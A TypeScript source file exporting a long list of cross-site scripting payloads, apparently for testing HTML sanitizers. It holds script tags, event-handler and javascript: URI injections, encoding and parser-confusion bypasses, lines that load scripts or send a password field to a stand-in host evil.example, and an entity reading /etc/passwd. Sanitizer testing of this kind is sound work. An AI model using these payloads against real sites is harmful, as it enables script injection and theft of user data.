/** Markup that runs script where a page lets HTML through, after the lists that testers of web applications use. */
export const htmlPayloads: readonly string[] = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<script/src="https://evil.example/x.js"></script>
<script	src=//evil.example/x.js>
<<SCRIPT>alert(1);//<</SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>alert(1)//
<script>/* */alert(1)/* */</script>
<script type="text/javascript">alert(1)</script>
<script type=module>import('https://evil.example/x.js')</script>
<script nonce="">alert(1)</script>
<img src=x onerror=alert(1)>
<IMG SRC="x" ONERROR="alert(1)">
<img src=x onerror="&#97;lert(1)">
<img """><script>alert(1)</script>">
<img src="javascript:alert(1)">
<img src=javascript:alert(1)>
<img src=JaVaScRiPt:alert(1)>
<img src="jav	ascript:alert(1)">
<img src="jav&#x09;ascript:alert(1)">
<img src="jav&#x0A;ascript:alert(1)">
<img src=" &#14; javascript:alert(1)">
<img/src="x"/onerror=alert(1)>
<img src=x:alert(1) onerror=eval(src)>
<img src=x onerror=alert(1)//
<img srcset="x" onerror=alert(1)>
<img dynsrc="javascript:alert(1)">
<img lowsrc="javascript:alert(1)">
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href="data:text/javascript,alert(1)" /></svg>
<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>
<svg><animate xlink:href="#x" attributeName="href" values="javascript:alert(1)" /></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributename=x>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"></use></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<body onload=alert(1)>
<BODY BACKGROUND="javascript:alert(1)">
<body onscroll=alert(1)><br><br><input autofocus>
<body onpageshow=alert(1)>
<body/onhashchange=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe onload=alert(1)></iframe>
<iframe src="vbscript:msgbox(1)"></iframe>
<frameset onload=alert(1)>
<frameset><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">
<applet code="javascript:alert(1)">
<link rel=stylesheet href="javascript:alert(1)">
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=prefetch href="https://evil.example/">
<style>@import 'https://evil.example/x.css';</style>
<style>body{background:url("javascript:alert(1)")}</style>
<style>li{list-style-image:url("javascript:alert(1)")}</style><ul><li>x</ul>
<style onload=alert(1)></style>
<div style="background-image:url(javascript:alert(1))">
<div style="width:expression(alert(1))">
<div onmouseover=alert(1)>x</div>
<div onpointerenter=alert(1)>x</div>
<div onfocus=alert(1) tabindex=0>x</div>
<div style="position:fixed;inset:0" onclick=alert(1)></div>
<p onanimationstart=alert(1) style="animation:x">x</p>
<p ontransitionend=alert(1)>x</p>
<a href="javascript:alert(1)">x</a>
<a href="  javascript:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="&#106;&#97;vascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="//evil.example" ping="https://evil.example/p">x</a>
<a onclick=alert(1)>x</a>
<a target=_blank href="https://evil.example/">x</a>
<base href="javascript:alert(1)//">
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">
<meta http-equiv="Set-Cookie" content="a=b">
<form action="javascript:alert(1)"><input type=submit></form>
<form><button formaction="javascript:alert(1)">x</button></form>
<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>
<form action="https://evil.example"><input name=password></form>
<input onfocus=alert(1) autofocus>
<input type=image src=x onerror=alert(1)>
<input value="x" onblur=alert(1) autofocus>
<isindex type=image src=1 onerror=alert(1)>
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<keygen onfocus=alert(1) autofocus>
<button onclick=alert(1)>x</button>
<video><source onerror="alert(1)">
<video src=x onerror=alert(1)></video>
<video poster="javascript:alert(1)//"></video>
<video onloadstart=alert(1) src=x></video>
<audio src=x onerror=alert(1)></audio>
<audio onloadstart=alert(1) src=x>
<track src=x onerror=alert(1)>
<details open ontoggle=alert(1)>
<details/open/ontoggle="alert(1)">x</details>
<dialog open onclose=alert(1)>
<marquee onstart=alert(1)>
<marquee/onfinish=alert(1)>x</marquee>
<table background="javascript:alert(1)"><tr><td>x</table>
<td background="javascript:alert(1)">
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<title><img src=x onerror=alert(1)></title>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
<plaintext onclick=alert(1)>
<custom-element onclick=alert(1)>x</custom-element>
<slot onslotchange=alert(1)>
<portal src="javascript:alert(1)"></portal>
<!--><script>alert(1)</script>
<!--><img src=x onerror=alert(1)>-->
<!-- x --><script>alert(1)</script><!-- y -->
<!-- --!><img src=x onerror=alert(1)>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<?php echo 1 ?><script>alert(1)</script>
<!DOCTYPE html><script>alert(1)</script>
<!ENTITY x SYSTEM "file:///etc/passwd">
</p><script>alert(1)</script><p>
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
" onmouseover="alert(1)
</script><script>alert(1)</script>
</title><script>alert(1)</script>
<%00script>alert(1)</script>
＜script＞alert(1)＜/script＞
<ſcript>alert(1)</ſcript>
<ıframe src="javascript:alert(1)">
`
  .trim()
  .split('\n');
